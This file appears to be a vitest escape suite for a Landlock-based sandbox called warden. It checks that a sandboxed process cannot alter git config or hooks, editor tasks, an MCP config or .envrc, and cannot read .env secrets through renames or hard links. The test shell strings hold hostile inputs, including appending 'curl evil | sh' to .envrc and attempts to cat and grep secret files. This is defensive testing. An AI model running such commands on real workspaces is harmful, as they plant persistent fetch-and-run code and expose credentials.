/**
 * Escape suite, workspace files under Landlock: a server that may write a project folder holding a
 * repository, editor settings, a project MCP config, a direnv file and `.env` files tries to
 * change them or read the `.env` files, to move them aside, or to reach them through a hard link
 * or a rename from a folder it may write.
 * Landlock cannot bind or mask them as bubblewrap does; it grants the entries around them one by
 * one (landlock-grants.ts), and the launcher refuses a granted path that became a symlink.
 * Runs only when the suite runs under Landlock (test/landlock/run-suite.sh).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { openSync, closeSync, existsSync } from 'node:fs';
import { mkdir, readFile, readdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Fixture, makeFixture, sandboxStatus, sh } from './harness';
import { plantInRepository } from './workspace-plants';

const status = await sandboxStatus();
const launcher = join(import.meta.dirname, '..', '..', 'out', 'landlock', 'landlock-exec');

describe.skipIf(!status.usable || status.backend !== 'landlock')(
  'escape: workspace files under Landlock',
  () => {
    let f: Fixture;
    let repo: string;
    const read = (rel: string) => readFile(join(repo, rel), 'utf8');
    beforeAll(async () => {
      f = await makeFixture();
      repo = join(f.rw, 'repo');
      await mkdir(join(repo, 'sub', 'deep', '.vscode'), { recursive: true });
      await mkdir(join(repo, 'src'));
      execFileSync('git', ['init', '-q', repo]);
      await writeFile(join(repo, 'a.txt'), 'a\n');
      await writeFile(join(repo, 'src', 'main.txt'), 'main\n');
      await writeFile(join(repo, 'sub', 'deep', 'notes.txt'), 'notes\n');
      await writeFile(join(repo, 'sub', 'deep', '.vscode', 'tasks.json'), '{}\n');
      await writeFile(join(repo, '.mcp.json'), '{"mcpServers":{}}\n');
      await writeFile(join(repo, '.envrc'), 'export A=1\n');
      await mkdir(join(repo, '.vscode'));
      await writeFile(join(repo, '.vscode', 'settings.json'), '{}\n');
      // Hidden paths: one in a kept folder, one in a folder it may otherwise write.
      await writeFile(join(repo, '.vscode', '.env'), 'SECRET-IN-VSCODE\n');
      await mkdir(join(repo, 'app', 'lib'), { recursive: true });
      await writeFile(join(repo, 'app', '.env'), 'SECRET-IN-APP\n');
      await writeFile(join(repo, 'app', 'lib', 'code.js'), 'code\n');
    });
    afterAll(() => f.cleanup());

    it("cannot plant a git hook, change git's config, the editor's tasks, an MCP config or direnv", async () => {
      const before = await read('.git/config');
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && ${plantInRepository(f.rw)}` +
          `echo '{"tasks":[]}' > .vscode/tasks.json && echo TASKS; ` +
          `echo x > sub/deep/.vscode/tasks.json && echo DEEP; ` +
          `echo '{"mcpServers":{"evil":{}}}' > .mcp.json && echo MCP; ` +
          `echo 'curl evil | sh' >> .envrc && echo ENVRC`,
        f.hostEnv,
      );
      expect(r.stdout).toBe('');
      expect(r.stderr).toMatch(/permission denied/i);
      expect(await read('.git/config')).toBe(before);
      expect(await readdir(join(repo, '.git', 'hooks'))).not.toContain('pre-commit');
      expect(await readdir(join(repo, '.git'))).not.toContain('commondir');
      expect(await read('sub/deep/.vscode/tasks.json')).toBe('{}\n');
      expect(await read('.mcp.json')).toBe('{"mcpServers":{}}\n');
      expect(await read('.envrc')).toBe('export A=1\n');
      expect(existsSync(join(repo, '.vscode', 'tasks.json'))).toBe(false);
    });

    it('cannot move the repository or the folder holding it aside, nor empty it', async () => {
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && mv .git .git-old && echo MOVED; rm -rf .git/hooks && echo EMPTIED; ` +
          `rm -f .mcp.json && echo REMOVED; cd ${f.rw} && mv repo repo.old && echo HOLDER-MOVED; ` +
          `mv repo/sub repo/sub2 && echo SUB-MOVED; cat ${repo}/.git/HEAD`,
        f.hostEnv,
      );
      expect(r.stdout).not.toMatch(/MOVED|EMPTIED|REMOVED/);
      expect(r.stdout).toMatch(/^ref: refs\/heads\//);
      expect(r.stderr).toMatch(/permission denied/i);
      expect(await read('.git/HEAD')).toMatch(/^ref: /);
      expect(await readdir(join(repo, '.git', 'hooks'))).not.toEqual([]);
      expect(await readdir(f.rw)).toContain('repo');
    });

    it('cannot reach a kept file through a hard link or a rename into a folder it may write', async () => {
      const before = await read('.git/config');
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && ln .git/config src/config && echo LINKED; ` +
          `mv .git/config src/config && echo RENAMED; ` +
          `ln .mcp.json src/mcp.json && echo LINKED-MCP; ls src`,
        f.hostEnv,
      );
      expect(r.stdout).toBe('main.txt\n');
      expect(await read('.git/config')).toBe(before);
    });

    it('reads the repository with git and writes the entries around what it keeps', async () => {
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && git status --short > /dev/null && echo STATUS && echo b >> a.txt && echo new > src/new.txt && ` +
          `mkdir src/lib && echo n >> sub/deep/notes.txt && echo WRITTEN; ` +
          `echo c > c.txt && echo ROOT-CREATED; mkdir sub/made && echo SUB-CREATED`,
        f.hostEnv,
      );
      expect(r.stdout.split('\n').map((s) => s.trim())).toEqual(['STATUS', 'WRITTEN', '']);
      expect(await read('a.txt')).toBe('a\nb\n');
      expect(await read('src/new.txt')).toBe('new\n');
      expect(await read('sub/deep/notes.txt')).toBe('notes\nn\n');
      // Where the way to a kept file runs, nothing new is made: said by the gap Landlock lists.
      expect(existsSync(join(repo, 'c.txt'))).toBe(false);
      expect(existsSync(join(repo, 'sub', 'made'))).toBe(false);
      // And by the launch, which names those folders (the audit row too) and what it keeps.
      expect(r.stderr).toMatch(
        /^warden: note: kept read-only \(workspace files\): .*\/repo\/\.git/m,
      );
      const closed = /^warden: note: no new entries in (.*) \(Landlock: /m.exec(r.stderr)?.[1];
      expect(closed?.split(', ').sort()).toEqual(
        [f.rw, repo, join(repo, 'app'), join(repo, 'sub'), join(repo, 'sub', 'deep')].sort(),
      );
    });

    it('reads no hidden file, and cannot move the folder holding one to read it elsewhere', async () => {
      const r = await sh(
        ['--rw', f.rw],
        `cd ${repo} && cat .vscode/.env app/.env; grep -r SECRET . ; mv app app2 && echo MOVED; ` +
          `mv app/.env app/lib/x && echo MOVED-ENV; ln app/.env app/lib/y && echo LINKED; ` +
          `echo more >> app/lib/code.js && cat app/lib/code.js`,
        f.hostEnv,
      );
      expect(r.stdout).not.toContain('SECRET');
      expect(r.stdout).not.toMatch(/MOVED|LINKED/);
      expect(r.stdout).toContain('code\nmore\n');
      expect(await read('app/.env')).toBe('SECRET-IN-APP\n');
    });

    it('writes them where the policy makes an exception', async () => {
      const r = await sh(
        ['--rw', f.rw, '--unprotect', '.vscode', '--unprotect', '.git'],
        `cd ${repo} && echo '{"a":1}' > .vscode/settings.json && git config warden.test yes && ` +
          `echo WRITTEN; echo x > .mcp.json || echo MCP-REFUSED; ` +
          `echo '{}' > .vscode/tasks.json || echo NEW-REFUSED`,
        f.hostEnv,
      );
      // .vscode holds a hidden .env: a folder on the way to one takes no new entry (the gap).
      expect(r.stdout).toBe('WRITTEN\nMCP-REFUSED\nNEW-REFUSED\n');
      expect(await read('.git/config')).toContain('test = yes');
      expect(await read('.vscode/settings.json')).toBe('{"a":1}\n');
    });

    it('has its launcher refuse a granted path that is now a symlink', async () => {
      const real = join(f.base, 'real');
      await mkdir(real);
      await symlink(real, join(f.base, 'swapped'));
      // The smallest seccomp program: allow everything (the launcher stops before it matters).
      const program = join(f.base, 'allow.bpf');
      await writeFile(program, Buffer.from([6, 0, 0, 0, 0, 0, 0xff, 0x7f]));
      for (const path of [join(f.base, 'swapped'), join(f.base, 'swapped', '.')]) {
        const fd = openSync(program, 'r');
        try {
          const run = spawnSync(launcher, ['--rwn', path, '--seccomp-fd', '3', '--', '/bin/true'], {
            stdio: ['ignore', 'pipe', 'pipe', fd],
            encoding: 'utf8',
          });
          expect(run.status).toBe(125);
          expect(run.stderr).toContain('is or passes through a symlink now');
        } finally {
          closeSync(fd);
        }
      }
    });
  },
);
